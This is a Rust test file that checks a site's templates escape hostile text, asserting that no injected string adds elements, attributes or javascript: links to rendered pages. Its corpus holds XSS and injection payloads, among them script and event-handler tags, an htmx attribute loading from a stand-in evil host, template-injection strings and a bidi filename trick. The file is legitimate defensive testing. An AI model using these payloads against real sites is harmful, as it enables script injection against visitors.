//! Text stays text, wherever it came from.

use super::{Words, every_page};

const CORPUS: [&str; 14] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "\" onfocus=alert(1) autofocus=\"",
    "' hx-get='https://evil.example' hx-trigger='load",
    "</textarea></title></style><b>bold</b>",
    "javascript:alert(1)",
    "{{ 7 * 7 }} {% raw %} ${1}",
    "<!-- --><hx-partial hx-target=\"body\">x</hx-partial>",
    "\u{202e}txt.exe\u{200b}",
    "&lt;b&gt; &amp; &#x27;",
    "]]><x y='z'>",
    "a\0b\r\nc\t",
    "<a href=data:text/html,x>",
];

/// What a browser would make of a page: the names of its elements, each with the names of its
/// attributes. Knows as much of HTML as our templates use.
fn skeleton(html: &str) -> Vec<String> {
    let mut elements = Vec::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let mut end = after.len();
        let mut quote = None;
        for (at, c) in after.char_indices() {
            match (quote, c) {
                (None, '>') => {
                    end = at;
                    break;
                }
                (None, '"' | '\'') => quote = Some(c),
                (Some(open), _) if open == c => quote = None,
                _ => {}
            }
        }
        let name = names(&after[..end]);
        // A title stands on generated art with an element for each word.
        if !matches!(name.split(' ').next(), Some("text" | "/text")) {
            elements.push(name);
        }
        rest = &after[end..];
    }
    elements
}

/// `a href class` of `a href="x" class="y"`.
fn names(tag: &str) -> String {
    let mut names = String::new();
    let mut quote = None;
    let mut in_value = false;
    for c in tag.chars() {
        match (quote, c) {
            (Some(open), _) if open == c => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '=') => in_value = true,
            (None, c) if c.is_whitespace() => {
                in_value = false;
                names.push(' ');
            }
            (None, _) if in_value => {}
            (None, c) => names.push(c),
        }
    }
    names
}

#[test]
fn no_text_makes_an_element_or_an_attribute() {
    let expected: Vec<_> = every_page(&Words::hostile("harmless"));
    for text in CORPUS {
        for ((page, plain), (_, html)) in expected.iter().zip(every_page(&Words::hostile(text))) {
            let (plain, hostile) = (skeleton(plain), skeleton(&html));
            let differs = plain.iter().zip(&hostile).find(|(one, other)| one != other);
            assert_eq!(differs, None, "{page} with {text:?}");
            assert_eq!(plain.len(), hostile.len(), "{page} with {text:?}");
        }
    }
}

#[test]
fn no_text_becomes_an_address_that_runs() {
    for (page, html) in every_page(&Words::hostile("javascript:alert(1)")) {
        for attribute in ["href=\"javascript", "src=\"javascript", "action=\"javascript"] {
            assert!(!html.contains(attribute), "{page} has {attribute}");
        }
    }
}
